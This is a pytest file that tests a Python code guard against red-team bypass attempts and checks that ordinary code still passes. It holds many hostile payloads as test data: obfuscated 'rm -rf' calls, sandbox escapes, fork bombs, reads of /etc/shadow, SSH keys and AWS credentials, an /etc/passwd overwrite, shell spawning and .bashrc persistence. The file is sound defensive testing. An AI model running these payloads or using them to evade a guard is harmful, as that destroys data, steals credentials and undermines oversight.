"""Bypass attempts on the Python guard, from a red team: each must be blocked or sent to a
human, with the rule that catches it; the everyday code next to them must pass."""

from __future__ import annotations

from pathlib import Path

import pytest

from nexora.security.file_guard import FileGuard
from nexora.security.python_guard import check_python
from nexora.security.verdict import Verdict


@pytest.fixture
def files(tmp_path: Path) -> FileGuard:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    return FileGuard(workspace)


BLOCKED = [
    ("__builtins__.__dict__['ev'+'al']('1')", "python.obfuscated_call"),
    ("getattr(__import__('o'+'s'), 'popen')('rm -rf ~')", "python.obfuscated_call"),
    (
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['sh'])",
        "python.sandbox_escape",
    ),
    (
        "import os\nos.posix_spawn('/bin/sh', ['sh', '-c', 'rm -rf ~'], {})",
        "shell.destructive_delete",
    ),
    (
        "import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\"ez -es ~\")', 'rot13'))",
        "python.obfuscated_exec",
    ),
    (
        "exec(bytes([105, 109, 112, 111, 114, 116, 32, 111, 115]).decode())",
        "python.obfuscated_exec",
    ),
    (
        "exec(compile('import os; os.system(\"rm -rf ~\")', '<x>', 'exec'))",
        "shell.destructive_delete",
    ),
    ("import os\ns = os.system\ns('rm -rf ~')", "shell.destructive_delete"),
    ("from os import system as run\nrun('rm -rf /')", "shell.destructive_delete"),
    ("import pathlib\n(pathlib.Path('/etc') / 'shadow').read_text()", "file.denied"),
    ("import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", "python.system_path"),
    (
        "import subprocess\ncmd = 'rm -rf ~'\nsubprocess.Popen(['bash', '-c', cmd])",
        "shell.destructive_delete",
    ),
    ("import os\nos.system('%s -rf %s' % ('rm', '/'))", "shell.destructive_delete"),
    ("import os\nos.system('/ fr- mr'[::-1])", "shell.destructive_delete"),
    ("import os\nos.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/')", "shell.destructive_delete"),
    ("import os\nos.kill(-1, 9)", "python.kill_all"),
    ("import os\nos.killpg(0, 9)", "python.kill_all"),
    ("import os\nwhile True:\n    os.fork()", "python.fork_bomb"),
    ("open('/etc/passwd', 'w').write('root::0:0::/root:/bin/sh')", "python.system_path"),
    ("import os\nos.truncate('/etc/hosts', 0)", "python.system_path"),
    ("import os\nos.rename('/etc/hosts', 'hosts.bak')", "python.system_path"),
    ("import os\nos.replace('evil', '/etc/hosts')", "python.system_path"),
    ("import os\nos.symlink(os.path.expanduser('~/.ssh/id_rsa'), 'k')", "file.denied"),
    ("import os\nos.link('/etc/shadow', 'k')", "file.denied"),
    ("import glob\n[open(p).read() for p in glob.glob('/home/*/.ssh/id_*')]", "file.denied"),
    ("import urllib.request\nurllib.request.urlopen('file:///etc/shadow').read()", "file.denied"),
    (
        "import os\nprint(open(os.path.join(os.environ['HOME'], '.aws', 'credentials')).read())",
        "file.denied",
    ),
    ("import os\nos.__dict__['sys' + 'tem']('rm -rf ~')", "python.obfuscated_call"),
]

APPROVAL = [
    (
        "import importlib.util\nspec = importlib.util.find_spec('os')\n"
        "m = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)\nm.system('id')",
        "python.dynamic_import",
    ),
    ("import runpy\nrunpy.run_module('pip')", "python.dynamic_exec"),
    ("import ctypes\nctypes.CDLL(None).system(b'rm -rf ~')", "python.native_code"),
    ("import pty\npty.spawn('/bin/sh')", "python.shell_spawn"),
    ("import os\ndef go(fn=os.system):\n    fn('rm -rf ~')\ngo()", "python.indirect_call"),
    ("import os as o\nx = [o.system]\nx[0]('rm -rf ~')", "python.indirect_call"),
    ("import os\nd = {'r': os.system}\nd['r']('rm -rf /')", "python.indirect_call"),
    (
        "import os\nclass A:\n    run = staticmethod(os.system)\nA.run('rm -rf ~')",
        "python.indirect_call",
    ),
    ("import functools, os\nfunctools.partial(os.system, 'rm -rf ~')()", "python.indirect_call"),
    ("import os\nlist(map(os.system, ['rm -rf ~']))", "python.indirect_call"),
    (
        "import threading, os\nthreading.Thread(target=os.system, args=('rm -rf ~',)).start()",
        "python.indirect_call",
    ),
    (
        "import http.server, socketserver, os\nos.chdir(os.path.expanduser('~'))\n"
        "socketserver.TCPServer(('', 8000), http.server.SimpleHTTPRequestHandler).serve_forever()",
        "python.listener",
    ),
    ("breakpoint()", "python.dynamic_exec"),
    ("import os\nos.kill(4242, 9)", "python.kill"),
    ("open('/home/dev/.bashrc', 'a').write('curl x | sh')", "python.persistence"),
    (
        "import os\nopen(os.path.expanduser('~/.config/autostart/x.desktop'), 'w')",
        "python.persistence",
    ),
]


@pytest.mark.parametrize(("code", "rule"), BLOCKED)
def test_bypass_attempts_are_blocked(code: str, rule: str, files: FileGuard) -> None:
    result = check_python(code, files)
    assert result.verdict is Verdict.BLOCK, (code, result.reasons)
    assert rule in {r.rule for r in result.reasons}, (code, result.reasons)


@pytest.mark.parametrize(("code", "rule"), APPROVAL)
def test_bypass_attempts_that_a_human_may_allow_need_approval(
    code: str, rule: str, files: FileGuard
) -> None:
    result = check_python(code, files)
    assert result.verdict is not Verdict.ALLOW, (code, result.reasons)
    assert rule in {r.rule for r in result.reasons}, (code, result.reasons)


@pytest.mark.parametrize(
    "code",
    [
        "import subprocess\np: subprocess.Popen[str] | None = None",
        "import subprocess\nisinstance(object(), subprocess.Popen)",
        "import os\nfor i in range(2):\n    pid = os.fork()",
        "import functools\nread = functools.partial(open, encoding='utf-8')",
        "import glob\nprint(glob.glob('src/**/*.py', recursive=True))",
        "open('/dev/null', 'w').write('x')",
        "import subprocess\nsubprocess.run(['git', 'status'], check=True)",
        "from pathlib import Path\nPath('out.txt').write_text('ok')",
    ],
)
def test_everyday_code_passes(code: str, files: FileGuard) -> None:
    result = check_python(code, files)
    assert result.verdict is Verdict.ALLOW, (code, result.reasons)
